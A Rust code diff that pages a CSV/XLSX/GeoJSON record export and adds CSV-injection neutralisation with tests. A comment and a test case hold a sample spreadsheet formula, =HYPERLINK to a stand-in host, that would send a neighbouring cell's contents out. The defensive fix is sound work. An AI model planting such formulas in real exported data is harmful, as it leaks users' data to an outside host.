@@ -3,12 +3,14 @@
 //! per repeat group and one of photo links, all linked by record id) and
 //! GeoJSON (hazards, or any form with a location).
 //!
-//! Streamed: the store feeds records one at a time to a sink on a blocking
-//! thread, the sink writes them into a bounded channel, and the channel is
-//! the response body — so a slow client slows the export down instead of
-//! piling it up in memory. XLSX worksheets are written in constant-memory
-//! mode (rows go to temporary files beside the data) and the finished
-//! workbook is zipped straight into the response.
+//! Streamed, page by page: each page of records is one short read of the
+//! store, then a blocking thread writes it through a sink into a bounded
+//! channel, and the channel is the response body. A slow client slows the
+//! export down instead of piling it up in memory, and while it is waited for
+//! the export holds no database connection: the readers stay free for the
+//! token checks of every device. XLSX worksheets are written in
+//! constant-memory mode (rows go to temporary files beside the data) and the
+//! finished workbook is zipped straight into the response.
 
 use std::collections::HashMap;
 use std::io::{self, Write};
@@ -37,8 +39,12 @@ use super::layout::{self, Nav};
 use super::session::Reviewer;
 use super::values::{self, plain, show, Fmt, Shown};
 use crate::state::AppState;
-use crate::storage::{ExportQuery, RecordSink, StoredRecord};
+use crate::storage::{ExportQuery, Store, StoreError, StoredRecord};
 
+/// Records read from the store per page: one short read each.
+const PAGE: u32 = 200;
+/// Most stored bytes of records one page holds in memory.
+const PAGE_BYTES: usize = 4 * 1024 * 1024;
 /// Bytes per body chunk.
 const CHUNK: usize = 64 * 1024;
 /// Chunks in flight between the exporting thread and the client.
@@ -93,6 +99,48 @@ impl Write for ChunkWriter {
     fn flush(&mut self) -> io::Result<()> {
         self.send()
     }
+}
+
+/// Receives exported records one at a time, on a thread that may block
+/// (so a sink can write a file or wait for a slow client: memory stays bounded).
+trait RecordSink: Send {
+    /// Takes one record; `Break` stops the export (the client went away, a write failed).
+    fn record(&mut self, record: StoredRecord) -> ControlFlow<()>;
+    /// Called once after the last record, unless the export stopped early.
+    fn finish(&mut self);
+}
+
+/// Feeds the records `query` selects to `sink`, a page at a time; returns
+/// how many it fed. Runs on a blocking thread, where the sink may wait for a
+/// slow client and where it ends (a CSV writer flushes when dropped); the
+/// pages are read through `rt`, so the store is used between pages only and
+/// no database connection is held while the client is waited for. A write
+/// made during the export reaches it only in the pages not yet read: a
+/// record is exported whole and at most once (pages follow the record id),
+/// as it stood when its page was read.
+fn export(
+    rt: &tokio::runtime::Handle,
+    store: &dyn Store,
+    query: ExportQuery,
+    mut sink: Box<dyn RecordSink>,
+) -> Result<u64, StoreError> {
+    let mut after = None;
+    let mut fed = 0;
+    loop {
+        let page = rt.block_on(store.export_page(query.clone(), after, PAGE, PAGE_BYTES))?;
+        for r in page.records {
+            fed += 1;
+            if sink.record(r).is_break() {
+                return Ok(fed);
+            }
+        }
+        after = page.next;
+        if after.is_none() {
+            break;
+        }
+    }
+    sink.finish();
+    Ok(fed)
 }
 
 /// Which part of a form's records.
@@ -295,16 +343,33 @@ fn entries<'a>(
         .enumerate()
 }
 
-fn cell_text(c: &Cell) -> String {
+// ---- CSV ----
+
+/// A cell as CSV text: numbers plain, every text neutralized.
+fn csv_cell(c: &Cell) -> String {
     match c {
         Cell::Empty => String::new(),
-        Cell::Text(s) => s.clone(),
+        // A number is a number because its field holds numbers, so a
+        // negative one stays data (`-3.5`), never a neutralized text.
         Cell::Number(n) => n.to_string(),
-        Cell::Links(l) => l.join(" "),
+        Cell::Text(s) => neutralized(s),
+        Cell::Links(l) => neutralized(&l.join(" ")),
     }
 }
 
-// ---- CSV ----
+/// Text that a spreadsheet opening the CSV shows as typed. Excel and WPS run
+/// a cell beginning with `=`, `+`, `-`, `@`, a tab or a carriage return as a
+/// formula (`=HYPERLINK("http://…?"&C2,"详情")` would send a neighbouring
+/// cell away), so such text gets a leading `'`, as OWASP advises for CSV
+/// injection. The XLSX export needs none of this: it writes text as string
+/// cells, which are never formulas.
+fn neutralized(text: &str) -> String {
+    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{text}")
+    } else {
+        text.to_owned()
+    }
+}
 
 struct CsvSink {
     ctx: Arc<Ctx>,
@@ -324,7 +389,7 @@ impl CsvSink {
         // A byte-order mark, so that Excel reads the UTF-8 as UTF-8.
         chunks.buf.extend_from_slice("\u{feff}".as_bytes());
         let mut out = csv::Writer::from_writer(chunks);
-        let headers: Vec<String> = cols.iter().map(|c| ctx.header(c)).collect();
+        let headers: Vec<String> = cols.iter().map(|c| neutralized(&ctx.header(c))).collect();
         let _ = out.write_record(&headers);
         Self {
             ctx,
@@ -344,7 +409,7 @@ impl RecordSink for CsvSink {
                 .collect(),
         };
         for row in rows {
-            if self.out.write_record(row.iter().map(cell_text)).is_err() {
+            if self.out.write_record(row.iter().map(csv_cell)).is_err() {
                 return ControlFlow::Break(());
             }
         }
@@ -905,11 +970,12 @@ pub async fn download(
             )
         }
     };
-    let store = state.store.clone();
-    tokio::spawn(async move {
-        if let Err(e) = store.export_records(query, sink).await {
+    let (store, rt) = (state.store.clone(), tokio::runtime::Handle::current());
+    tokio::task::spawn_blocking(move || match export(&rt, store.as_ref(), query, sink) {
+        Ok(records) => tracing::info!(records, "export done"),
+        Err(e) => {
             tracing::error!(error = %e, "export failed");
-            let _ = tx.send(Err(io::Error::other("export failed"))).await;
+            let _ = tx.blocking_send(Err(io::Error::other("export failed")));
         }
     });
     let mut rx = rx;
@@ -959,6 +1025,29 @@ mod tests {
         assert_eq!(sheet_name("走访记录", &mut taken), "走访记录2");
         let long = sheet_name(&"长".repeat(40), &mut taken);
         assert!(long.chars().count() <= 31);
+    }
+
+    #[test]
+    fn csv_text_never_starts_a_formula_and_numbers_stay_numbers() {
+        for (cell, csv) in [
+            (
+                Cell::Text(r#"=HYPERLINK("http://x.invalid/?"&C2,"详情")"#.into()),
+                r#"'=HYPERLINK("http://x.invalid/?"&C2,"详情")"#,
+            ),
+            (Cell::Text("+86 138".into()), "'+86 138"),
+            (Cell::Text("-1+1".into()), "'-1+1"),
+            (Cell::Text("@SUM(A1)".into()), "'@SUM(A1)"),
+            (Cell::Text("\t=1".into()), "'\t=1"),
+            (Cell::Text("\r=1".into()), "'\r=1"),
+            (Cell::Text("楼道 = 隐患".into()), "楼道 = 隐患"),
+            (Cell::Text(String::new()), ""),
+            (Cell::Links(vec!["=x".into()]), "'=x"),
+            (Cell::Number(-3.5), "-3.5"),
+            (Cell::Number(-12.0), "-12"),
+            (Cell::Empty, ""),
+        ] {
+            assert_eq!(csv_cell(&cell), csv, "{cell:?}");
+        }
     }
 
     #[test]
